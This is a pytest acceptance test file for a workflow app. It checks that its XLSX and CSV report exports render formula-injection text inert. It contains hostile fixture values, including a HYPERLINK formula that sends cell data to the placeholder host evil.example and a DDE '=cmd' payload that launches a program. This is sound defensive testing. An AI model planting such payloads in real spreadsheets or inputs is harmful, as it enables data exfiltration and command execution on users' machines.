"""Exports are inert (issue 14, point 1): names and texts that a spreadsheet would run as a formula come out of
every form — through the renderer, the API download, the page download and the `report` command — as text.

The organisation is imported from a real CSV file whose committee, general-branch and branch names start
with ``=``, ``+``, ``-`` and ``@``; a branch secretary (the lowest role) writes ``=HYPERLINK(...)`` into a
rectification problem through the API. Every XLSX is opened with openpyxl (no cell has ``data_type 'f'``;
the text is there as it was typed) and every CSV with Python's csv module (each such cell starts with ``'``
followed by the text as typed). Numbers we compute stay numbers.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

import reports
from states.base import Stage
from tests.acceptance.conftest import Site
from tests.support.world import World, at
from workflow.importer import import_file

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
GB_NAME = "=cmd|' /C calc'!A0"
BRANCH_NAME = "+SUM(1,2)第九党支部"
OTHER_NAME = "-2+3第十党支部"
COMMITTEE_NAME = "@SUM(1)测试学院党委"
MEASURE = "\t=1+1 每月主题党日"
CONTACT = "-委员1"
EVIL = [HYPERLINK, GB_NAME, BRANCH_NAME, OTHER_NAME, COMMITTEE_NAME, MEASURE, CONTACT]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _org_csv(tmp: Path) -> Path:
    p = tmp / "组织.csv"
    with open(p, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(["党委", "党委编码", "党总支", "党总支编码", "支部编码", "支部名称", "支部类型", "书记姓名", "书记邮箱",
                    "党员人数"])
        w.writerow([COMMITTEE_NAME, "C1", GB_NAME, "GB9", "B9", BRANCH_NAME, "教工", "书记九", "sec9@test.cn", "11"])
        w.writerow([COMMITTEE_NAME, "C1", GB_NAME, "GB9", "B10", OTHER_NAME, "教工", "书记十", "sec10@test.cn", "8"])
        w.writerow([COMMITTEE_NAME, "C1", "GB1", "GB1", "B1", "生物系教工党支部", "教工", "书记B1", "sec1@test.cn",
                    "10"])
    return p


def _xlsx_texts(data: bytes) -> tuple[list[str], int]:
    """Every text cell of every sheet, and how many number cells; fails on any formula cell."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts: list[str] = []
    numbers = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula cell {c.coordinate}: {c.value!r}"
                if isinstance(c.value, str):
                    texts.append(c.value)
                elif isinstance(c.value, int | float):
                    numbers += 1
    return texts, numbers


def _csv_cells(data: bytes) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
    for c in cells:
        assert not c.startswith(STARTS), f"live CSV cell {c!r}"
    return cells


def _check(fmt: str, data: bytes, expected: list[str]) -> None:
    if fmt == "xlsx":
        texts, numbers = _xlsx_texts(data)
        joined = "\n".join(texts)
        for e in expected:
            assert e in texts or e in joined, (e, texts[:40])
        assert numbers > 0  # member counts, totals and scores are still numbers
    else:
        cells = _csv_cells(data)
        for e in expected:
            assert "'" + e in cells or any(("'" + e) in c for c in cells), (e, cells[:60])


def _expected(name: str) -> list[str]:
    """The hostile texts each form shows (every form names the committee in its notes, most the branches)."""
    return {
        "summary": [BRANCH_NAME, OTHER_NAME],
        "overview": [BRANCH_NAME, OTHER_NAME],
        "rectification": [HYPERLINK, MEASURE, CONTACT],
        "tasks": [],
        "acceptance": [BRANCH_NAME],
        "movement": [BRANCH_NAME, OTHER_NAME],  # issue 12: every branch, against last year's grade
    }[name]


@pytest.fixture
def hostile(site: Site, tmp_path: Path) -> Site:
    """The world plus the hostile organisation, and B1's secretary's hostile rectification plan via the API."""
    w: World = site.world
    with w.sessions() as s, s.begin():
        import_file(s, _org_csv(tmp_path))
    with w.sessions() as s, s.begin():
        from workflow.service import open_missing_cases

        open_missing_cases(s, None, now=at(3, 2))
    w.drive("B1", Stage.rectification)
    site.clock.now = at(5, 20)
    plan = {"items": [{"problem": HYPERLINK, "measure": MEASURE, "due": "2026-07-31", "contact": CONTACT}],
            "submitted": True, "self_analysis": "对照标准查找不足。"}
    r = site.call("sec1", "POST", "/api/branches/B1/records", json={"data": plan})
    assert r.status_code == 200, r.text
    return site


def test_every_form_renders_hostile_text_as_text(hostile: Site) -> None:
    with hostile.world.sessions() as s:
        for name in reports.FORMS:
            for fmt in ("xlsx", "csv"):
                data = reports.render(s, name, fmt, now=at(5, 21)).read()
                _check(fmt, data, _expected(name))


def test_downloads_over_http_are_inert(hostile: Site) -> None:
    """The API download (organisation department) and the page download (the general branch's secretary)."""
    for name in reports.FORMS:
        for fmt in ("xlsx", "csv"):
            r = hostile.call("org", "GET", f"/api/reports/{name}", params={"format": fmt})
            assert r.status_code == 200, r.text
            _check(fmt, r.content, _expected(name))
    gb = hostile.page_client("gb1")
    for fmt in ("xlsx", "csv"):
        r = gb.get(f"/reports/rectification.{fmt}")
        assert r.status_code == 200, r.text
        _check(fmt, r.content, [HYPERLINK, MEASURE, CONTACT])


def test_report_command_writes_inert_files(tmp_path: Path) -> None:
    """`branchflow report` as a subprocess on a SQLite file: both formats, every form."""
    from workflow.db import make_engine, session_factory
    from workflow.migrate import upgrade

    data_dir = tmp_path / "data"
    engine = make_engine(f"sqlite:///{data_dir / 'branchflow.db'}")
    upgrade(engine)
    w = World(session_factory(engine))
    with w.sessions() as s, s.begin():
        import_file(s, _org_csv(tmp_path))
    with w.sessions() as s, s.begin():
        from workflow.service import open_missing_cases

        open_missing_cases(s, None, now=at(3, 2))
    engine.dispose()
    env = {k: v for k, v in os.environ.items() if not k.startswith("BRANCHFLOW_")}
    env.update(BRANCHFLOW_DATA_DIR=str(data_dir), PYTHONPATH=str(ROOT))
    out = tmp_path / "out"
    out.mkdir()
    for name in ("summary", "overview"):
        for fmt in ("xlsx", "csv"):
            r = subprocess.run([sys.executable, "-m", "service.cli", "report", name, "--format", fmt, "--now",
                                "2026-03-10", "-o", str(out)], env=env, text=True, capture_output=True, timeout=120,
                               check=False)
            assert r.returncode == 0, r.stderr
    files = sorted(out.iterdir())
    assert len(files) == 4
    for f in files:
        _check(f.suffix[1:], f.read_bytes(), [BRANCH_NAME, OTHER_NAME])
